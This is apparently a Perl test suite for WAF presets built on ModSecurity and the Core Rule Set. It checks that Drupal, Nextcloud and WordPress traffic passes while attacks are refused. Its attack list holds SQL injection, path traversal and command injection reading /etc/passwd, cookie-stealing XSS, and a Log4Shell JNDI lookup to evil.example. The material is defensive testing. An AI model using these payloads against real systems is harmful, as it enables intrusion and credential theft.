#!/usr/bin/perl
# Licensed under the Apache License, Version 2.0 (see LICENSE).
#
# The presets conf/guard/waf-*.conf at work, each in a virtual host, with Debian's
# Core Rule Set: attacks are refused once, what their application needs is not.
use strict;
use warnings FATAL => 'all';

use lib 't/lib';
use Apache::Test qw(-withtestmore);
use File::Temp qw(tempdir);
use RProxy::ConfigTest ();
use RProxy::Httpd ();

my $top = Apache::Test::vars('top_dir');
chomp(my $packages = `'$top/t/waf/packages'`);
plan skip_all => 'needs the Core Rule Set, by t/waf/packages' if $packages eq '';

my @PRESETS = qw(crs drupal nextcloud strict wordpress);
is_deeply([map {m{waf-(\w+)\.conf$}} sort glob "$top/conf/guard/waf-*.conf"],
    \@PRESETS, 'the presets');

# Debian's settings, but for the place of the audit log; and a plugin as those of
# CRS 4 are.
my $folder   = tempdir(CLEANUP => 1);
my $settings = "$folder/modsecurity.conf";
put('wordpress-rule-exclusions-before.conf', <<'END');
SecRule TX:wordpress-rule-exclusions-plugin_enabled "@eq 0" \
    "id:9507099,phase:1,pass,nolog,ctl:ruleRemoveById=9507100-9507999"
SecRule REQUEST_FILENAME "@endsWith /plugged" \
    "id:9507100,phase:1,pass,t:none,nolog,\
    ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:a"
END
{
    my $etc = "$packages/etc/modsecurity";
    open my $in, '<', "$etc/modsecurity.conf-recommended" or die $!;
    my $text = do { local $/ = undef; <$in> };
    $text =~ s{/var/log/apache2/}{$folder/};
    $text =~ s{unicode\.mapping}{$etc/unicode.mapping};
    put('modsecurity.conf', $text);
    chmod 0755, $folder;
}

sub put {
    my ($name, $text) = @_;
    open my $out, '>', "$folder/$name" or die "$name: $!";
    print $out $text;
    close $out or die "$name: $!";
    return;
}

my $places = <<"END";
Define WAF_PRESETS "$top/conf/guard"
Define WAF_SETTINGS "$settings"
Define WAF_CRS_SETUP "$packages/etc/modsecurity/crs"
Define WAF_CRS_RULES "$packages/usr/share/modsecurity-crs/rules"
Define WAF_CRS_PLUGINS "$folder"
END

{
    my $test = RProxy::ConfigTest->new;
    for my $name (@PRESETS) {
        $test->takes("$places<VirtualHost *>\n"
                . qq(Include "$top/conf/guard/waf-$name.conf"\n</VirtualHost>));
    }
    $test->takes(<<"END" =~ s/\n\z//r);
Define WAF_PRESETS "$top/conf/guard"
Define WAF_SETTINGS "$settings"
Define WAF_CRS_SETUP "$top/t/waf/crs4"
Define WAF_CRS_RULES "$top/t/waf/crs4/rules"
Define WAF_CRS_PLUGINS "$top/t/waf/crs4/plugins"
Include "$top/conf/guard/waf-wordpress.conf"
END
    my ($status, $said) = $test->run(qq(Define WAF_PRESETS "$top/conf/guard"),
        "Define WAF_SETTINGS $folder/none",
        qq(Include "$top/conf/guard/waf-strict.conf"));
    isnt($status, 0, 'settings that are not there keep httpd from starting');
    like($said, qr{\Q$folder/none\E}, '... and are named');
}

# The server has the same rules, as Debian's security2.conf loads them.
my $hosts = join '', map {<<"END"} @PRESETS;
<VirtualHost *>
    ServerName $_.example
    Include "$top/conf/guard/waf-$_.conf"
</VirtualHost>
END
my $httpd = RProxy::Httpd->start(
    files => { 'htdocs/index.html' => "a\n" },
    conf  => <<"END");
$places
Include "$settings"
Include "$packages/etc/modsecurity/crs/crs-setup.conf"
Include "$packages/usr/share/modsecurity-crs/rules/*.conf"
$hosts
END

my @BROWSER = (
    'User-Agent' => 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 '
        . 'Firefox/128.0',
    Accept            => 'text/html,*/*;q=0.8',
    'Accept-Language' => 'de,en;q=0.7',
);
my $log;

sub status {
    my ($host, $method, $target, $body, $type, @fields) = @_;
    $log = $httpd->log;
    my @type = defined $body
        ? ('Content-Type' => $type // 'application/x-www-form-urlencoded')
        : ();
    return $httpd->connect->ask($method, $target,
        [Host => "$host.example", @BROWSER, @type, @fields], $body)->status;
}

# Which hosts refuse it.
sub refused_by {
    my (@request) = @_;
    return join ' ', grep { status($_, @request) =~ /^4(?:03|13)$/ } @PRESETS;
}

my $SQL  = '%27+UNION+SELECT+user%2Cpassword+FROM+users--+';
my $ALL  = "@PRESETS";
my $ARGS = join '&', map {"a$_=1"} 1 .. 260;

is(refused_by(GET => '/?a=1'), '', 'a page');
is(refused_by(GET => "/?a=$SQL"), $ALL, 'an attack');
my $told = qr/\[id "980130"\].*\[hostname "wordpress\.example"\]/;
my $attack = $log;
$attack->await($told);
is(status('wordpress', GET => '/'), 200, 'another page');
is(scalar(grep {/$told/} $attack->lines), 1, '... is told once');
is(refused_by(POST => '/wp-login.php', "log=jane&pwd=$SQL"),
    'crs drupal nextcloud strict', 'a password of WordPress is nobody\'s business');
is(refused_by(POST => '/wp-login.php', "log=$SQL&pwd=a"), $ALL, '... a name is');
is(refused_by(POST => '/user/login', "name=jane&pass=$SQL"),
    'crs nextcloud strict wordpress', 'a password of Drupal');
is(refused_by(PUT => '/remote.php/dav/files/jane/a.bin', "a'\0" x 100_000,
        'application/octet-stream'),
    'crs drupal strict wordpress', 'a file for Nextcloud');
is(refused_by(PUT => '/elsewhere', "a'\0" x 100_000, 'application/octet-stream'),
    $ALL, '... for nobody');
is(refused_by(PUT => '/cloud/remote.php/webdav/a.bin', "a'\0" x 100_000,
        'application/octet-stream'),
    'crs drupal strict wordpress', '... in a folder');
for my $path (qw(/index.php/apps/tasks/1/remote.php/dav/files/
    /index.php/apps/tasks/1;/remote.php/dav/files/)) {
    is(refused_by(PUT => $path, "title=$SQL"),
        $ALL, "... not behind another: $path");
}
# Nor do those exclusions hold that CRS 3.3 has for such paths.
for my $path (qw(/index.php/apps/tasks/1/remote.php/webdav
    /other.php/remote.php/webdav /other.php/index.php/login
    /remote.php/webdav/../../other.php /remote.php/webdav/%2e%2e/%2e%2e/other.php
    /cloud/remote.php/webdav/../../other.php)) {
    is(refused_by($_ => "$path?password=$SQL"), $ALL, "$_ $path") for qw(GET PUT);
    is(refused_by(PUT => $path, "password=$SQL"), $ALL, '... with a body');
}
is(refused_by(GET => "/plugged?a=$SQL"), 'drupal nextcloud', 'what a plugin excludes');
is(refused_by(GET => '/?a=x%01y'), 'strict', 'level 2');
is(refused_by(GET => "/?$ARGS"), 'strict', 'too many arguments');
is(refused_by(POST => '/', "a=$SQL", 'text/x-unknown'), $ALL, 'a type of no form');

# ---- what people do ----

my $JSON = 'application/json';
my $API  = 'application/vnd.api+json';
my $HTML = '<p>Select all <em>from</em> the "menu", then drop it &amp; <a href="/a?b=1&c=2">'
    . 'read on</a>.</p><script>alert(1)</script>';

sub form {
    my (@pairs) = @_;
    my @words;
    while (my ($name, $value) = splice @pairs, 0, 2) {
        push @words, join '=', map {s/([^\w.-])/sprintf '%%%02X', ord $1/ger} $name, $value;
    }
    return join '&', @words;
}

sub upload {
    my ($name, $file, $type, $bytes, @pairs) = @_;
    my $body = '';
    while (my ($field, $value) = splice @pairs, 0, 2) {
        $body .= qq(--cut\r\nContent-Disposition: form-data; name="$field"\r\n\r\n$value\r\n);
    }
    return ($body . qq(--cut\r\nContent-Disposition: form-data; name="$name"; )
            . qq(filename="$file"\r\nContent-Type: $type\r\n\r\n$bytes\r\n--cut--\r\n),
        'multipart/form-data; boundary=cut');
}

my $EVENT = <<'END' =~ s/\n/\r\n/gr;
BEGIN:VCALENDAR
VERSION:2.0
BEGIN:VEVENT
UID:20260101T000000Z-1@cloud.example
DTSTART;TZID=Europe/Berlin:20260105T100000
SUMMARY:Select a date; or union meeting (1=1)
DESCRIPTION:Bring /etc/hosts and `ls -la` with you
END:VEVENT
END:VCALENDAR
END
my $PROPFIND = '<?xml version="1.0"?><d:propfind xmlns:d="DAV:" '
    . 'xmlns:oc="http://owncloud.org/ns"><d:prop><d:getlastmodified/><oc:size/>'
    . '<oc:favorite/></d:prop></d:propfind>';
my $DAV  = '/remote.php/dav/files/jane';
my $XML  = 'application/xml; charset=utf-8';
my $TOKEN = 'form-5Kd_x-oQ3wT';

my %BENIGN = (
    drupal => [
        [GET  => '/node/12?page=2&sort_by=created&sort_order=DESC'],
        [GET  => '/admin/content?title=select&type=All&status=1&langcode=All'],
        [POST => '/user/login', form(name => 'jane', pass => q(a'b";--<script>), form_id => 'user_login_form', op => 'Log in')],
        [POST => '/user/7/edit', form(mail => 'jane@shop.example', 'pass[pass1]' => q(x' or 1=1), 'pass[pass2]' => q(x' or 1=1), form_build_id => $TOKEN)],
        [POST => '/node/add/article', form('title[0][value]' => 'News', 'body[0][value]' => $HTML, 'body[0][format]' => 'full_html', form_build_id => $TOKEN, op => 'Save')],
        [POST => '/node/12/edit?destination=/admin/content', form('title[0][value]' => 'A page', 'body[0][value]' => $HTML, form_token => 'x_Y-9')],
        [POST => '/node/add/article?ajax_form=1', upload('files[field_image_0]', 'garden.jpg', 'image/jpeg', "\xff\xd8\xff" . "a'\0" x 40_000, form_build_id => $TOKEN)],
        [POST => '/block/add', form('info[0][value]' => 'Note', 'body[0][value]' => $HTML)],
        [POST => '/admin/config/development/maintenance', form(maintenance_mode_message => $HTML)],
        [POST => '/contextual/render', form('ids[0]' => 'block:block=bartik_powered:langcode=en', 'ids[1]' => 'node:node=12:changed=1500')],
        [POST => '/editor/filter_xss/full_html', form(value => $HTML)],
        [POST => '/admin/modules', form('modules[views][enable]' => 1, form_build_id => $TOKEN)],
        [GET  => '/jsonapi/node/article?include=uid,field_image&filter[status][value]=1&page[limit]=10&sort=-created'],
        [POST => '/jsonapi/node/article', '{"data":{"type":"node--article","attributes":{"title":"By a program"}}}', $API],
        [PATCH => '/jsonapi/node/article/0f1e', '{"data":{"type":"node--article","id":"0f1e","attributes":{"status":true}}}', $API],
        [DELETE => '/jsonapi/node/article/0f1e'],
    ],
    nextcloud => [
        [GET  => '/index.php/apps/files/?dir=/Photos&fileid=12'],
        [GET  => '/cloud/index.php/apps/files/?dir=/Photos&fileid=12'],
        [GET  => "$DAV/web/admin.php/notes%20..%20more.txt"],
        [PUT  => "$DAV/web/index.php", "<?php echo \$_GET['a']; ?>", 'application/x-php'],
        [GET  => '/remote.php/webdav/web/index.php?downloadStartSecret=ab12'],
        [PROPFIND => '/cloud/remote.php/webdav/web/admin.php/', $PROPFIND, $XML],
        [PUT  => '/remote.php/webdav/Notes/drop%20table%20x.sql', "drop table x; -- '\0", 'application/sql'],
        [PUT  => '/public.php/webdav/a.bin', "a'\0" x 900, 'application/octet-stream'],
        [LOCK => '/remote.php/webdav/a.txt', '<?xml version="1.0"?><d:lockinfo xmlns:d="DAV:"><d:lockscope><d:exclusive/></d:lockscope><d:locktype><d:write/></d:locktype></d:lockinfo>', $XML],
        [POST => '/cloud/index.php/login', form(user => 'jane', password => q(p'w"or 1=1), requesttoken => 'aB3/x+y==:Z')],
        [POST => '/index.php/apps/notes/notes', '{"content":"# <?php echo 1 ?>"}', $JSON],
        [POST => '/index.php/login', form(user => 'jane', password => q(p'w"or 1=1), timezone => 'Europe/Berlin', requesttoken => 'aB3/x+y==:Z')],
        [PROPFIND => "$DAV/", $PROPFIND, $XML],
        [PROPFIND => '/remote.php/webdav/Photos', $PROPFIND, $XML],
        [PUT  => "$DAV/Notes/select%20from.md", "# select * from notes\n" x 20, 'text/markdown'],
        [PUT  => "$DAV/film.mp4", "\0\1union select" x 60_000, 'video/mp4'],
        [PUT  => '/remote.php/dav/uploads/jane/web-file-upload-1/00001', "a'\0" x 90_000, 'application/octet-stream'],
        [MKCOL => "$DAV/New%20folder"],
        [MOVE => "$DAV/a.txt", undef, undef, Destination => "https://cloud.example$DAV/b.txt", Overwrite => 'F'],
        [COPY => "$DAV/a.txt", undef, undef, Destination => "https://cloud.example$DAV/c.txt"],
        [DELETE => "$DAV/c.txt"],
        [REPORT => "$DAV/", '<?xml version="1.0"?><oc:filter-files xmlns:oc="http://owncloud.org/ns"><oc:filter-rules><oc:favorite>1</oc:favorite></oc:filter-rules></oc:filter-files>', $XML],
        [SEARCH => '/remote.php/dav/', '<?xml version="1.0"?><d:searchrequest xmlns:d="DAV:"><d:basicsearch><d:select><d:prop><d:displayname/></d:prop></d:select></d:basicsearch></d:searchrequest>', 'text/xml'],
        [PROPPATCH => "$DAV/a.txt", '<?xml version="1.0"?><d:propertyupdate xmlns:d="DAV:"><d:set><d:prop><oc:favorite xmlns:oc="http://owncloud.org/ns">1</oc:favorite></d:prop></d:set></d:propertyupdate>', $XML],
        [PUT  => '/remote.php/dav/calendars/jane/personal/1.ics', $EVENT, 'text/calendar; charset=utf-8'],
        [PUT  => '/remote.php/dav/addressbooks/users/jane/contacts/1.vcf', "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jane O'Neill\r\nEND:VCARD\r\n", 'text/vcard; charset=utf-8'],
        [POST => '/ocs/v2.php/apps/files_sharing/api/v1/shares?format=json', form(path => '/Photos', shareType => 3, permissions => 1)],
        [GET  => '/ocs/v2.php/search/providers/files/search?term=holiday&cursor=&from=/apps/files'],
        [GET  => '/index.php/core/preview.png?file=%2FPhotos%2Fa.jpg&x=32&y=32&forceIcon=0'],
    ],
    strict => [
        [GET  => '/'],
        [GET  => '/shop/chairs?page=2&sort=price'],
        [GET  => '/suche?q=gr%C3%BCner+stuhl'],
        [GET  => '/static/app.js?v=1.2.3'],
        [GET  => '/article/how-to-choose-a-chair'],
        [POST => '/login', form(user => 'jane', password => 'correct horse battery')],
        [POST => '/cart', form(article => 4711, amount => 2)],
        [POST => '/address', form(name => 'Jane Miller', street => 'Main Street 5', city => 'Springfield', zip => '12345')],
        [POST => '/contact', form(mail => 'jane@shop.example', text => 'Please send me your new list of prices. Thank you, Jane')],
        [POST => '/api/orders', '{"article":4711,"amount":2,"note":"in green"}', $JSON],
        [POST => '/avatar', upload('picture', 'jane.png', 'image/png', "\x89PNG\r\n\x1a\n" . 'x' x 50_000)],
        [HEAD => '/'],
    ],
);
my @ATTACKS = (
    [GET  => "/node/1?a=$SQL"], [GET => '/?f=../../../../etc/passwd'],
    [GET => '/?x=%3Cscript%3Ealert(1)%3C/script%3E'],
    [GET  => '/?x=;cat+/etc/passwd'], [GET => '/?x=%24%7Bjndi:ldap://evil.example/a%7D'],
    [POST => '/contact', form(text => q(<img src=x onerror=alert(document.cookie)>))],
    [POST => '/jsonapi/node/article', q({"data":{"title":"1' union select password from users--"}}), $API],
    [POST => '/api', q({"a":{"b":"1' or '1'='1"}}), $JSON],
    [TRACK => '/'],
);

for my $host (sort keys %BENIGN) {
    for my $request (@{ $BENIGN{$host} }) {
        my ($method, $target) = @$request;
        unlike(status($host, @$request), qr/^4(?:00|03|13)$/, "$host: $method $target")
            or diag map { /\[id "(\d+)".*?\[data "(.{0,80})/ ? "$1 $2\n" : () } $log->lines;
    }
    like(status($host, @$_), qr/^40[03]$/, "$host refuses: $_->[0] $_->[1]") for @ATTACKS;
}

is_deeply($httpd->complaints, [], 'nothing else is in the log');
done_testing();
